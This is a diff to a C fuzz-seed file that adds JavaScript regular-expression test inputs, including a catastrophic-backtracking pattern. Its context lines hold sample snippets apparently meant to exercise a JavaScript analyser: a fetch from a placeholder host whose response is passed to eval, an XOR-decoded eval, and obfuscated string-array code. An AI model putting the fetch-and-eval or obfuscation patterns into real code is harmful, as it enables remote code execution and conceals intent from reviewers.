@@ -107,6 +107,12 @@ void fuzz_seeds(void (*run)(const void *bytes, size_t n))
 {
 	literal_seeds("01", "read/test_js.c read/test_js_flow.c read/test_js_fold.c read/test_js_ends.c read/test_units.c", run);
 	call_seeds("js", run);
+	/* Regular expressions: what is read of them, and what is wrong with them. */
+	seed(run, "\x10", NULL, "eval('aB\\n12 \\u0416 x_y'.replace(/^(?<n>a)(?:b|B)$|\\b\\d+\\B|\\s\\S\\w\\W\\D/gim, '$1$&$$').replace(/[^\\d\\w\\s\\D\\W\\S\\b-\\]\\x41\\u0042\\cA\\0]/g, m => m));\n"
+		  "eval('aaaa'.replace(/a{2}|a{1,}|a{1,2}?|a*?|a+?|a??|.(?=a)|.(?!b)/g, 'x')); eval('aXa'.match(/(a)X\\1/)[1] + 'ab'.search(/b/) + /(?<!a)b|(?<=a)b/.test('ab') + /\\k<n>(?<n>q)/.exec('q'));\n"
+		  "eval('a.b,c'.split(/[.,]/).join('') + 'x'.replace(/\\p{L}/u, 'y') + 'x'.replace(/\\u{78}/u, 'y') + 'A\\nb'.replace(/a.b/is, 'z')); eval('x'.replace(new RegExp('(' + 'x', 'g'), '')); eval('x'.replace(new RegExp('[x', 'g'), ''));\n"
+		  "eval('x'.replace(new RegExp('x{2,1}'), '')); eval('x'.replace(new RegExp('*'), '')); eval('x'.replace(new RegExp('\\\\'), '')); eval('x'.replace(new RegExp('a)'), '')); eval('x'.replace(new RegExp('(?<1>a)'), '')); eval('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!'.replace(/(a+)+$/, ''));\n"
+		  "eval('abc'.replace(/(a)|(b)|(c)/g, (m, a, b, c) => a ? '1' : b ? '2' : '3') + 'abcabc'.replace(/(?:(a)|b|c){2,}/, '$1') + 'ab'.replace(/a|/g, '-') + 'x'.replace(/[\\]a-]/, 1) + 'x'.replace(/[]/, 1) + 'x'.replace(/[^]/, 1));");
 	seed(run, "\x10", NULL, "const h = require('https'); h.get('https://a.example/x', r => { let b = ''; r.on('data', c => b += c); r.on('end', () => eval(b)); });");
 	seed(run, "\x10", NULL, "function d(a,k){var s='';for(var i=0;i<a.length;i++)s+=String.fromCharCode(a[i]^k);return s}eval(d([98,107,98,117,115,47,54,46],7));for(;;){try{throw{a:[1,,2]}}catch({a:[b]}){break}finally{}}");
 	seed(run, "\x10", NULL, "function _0x1a(){const a=['x','1y','2z','p'];_0x1a=function(){return a};return _0x1a()}function _0x2b(i){return _0x1a()[i-1]}(function(f,n){const z=f();while(!![]){try{if(parseInt(_0x2b(1))===n)break;z['push'](z['shift']())}catch(e){z['push'](z['shift']())}}}(_0x1a,1));Function(_0x2b(4))()");
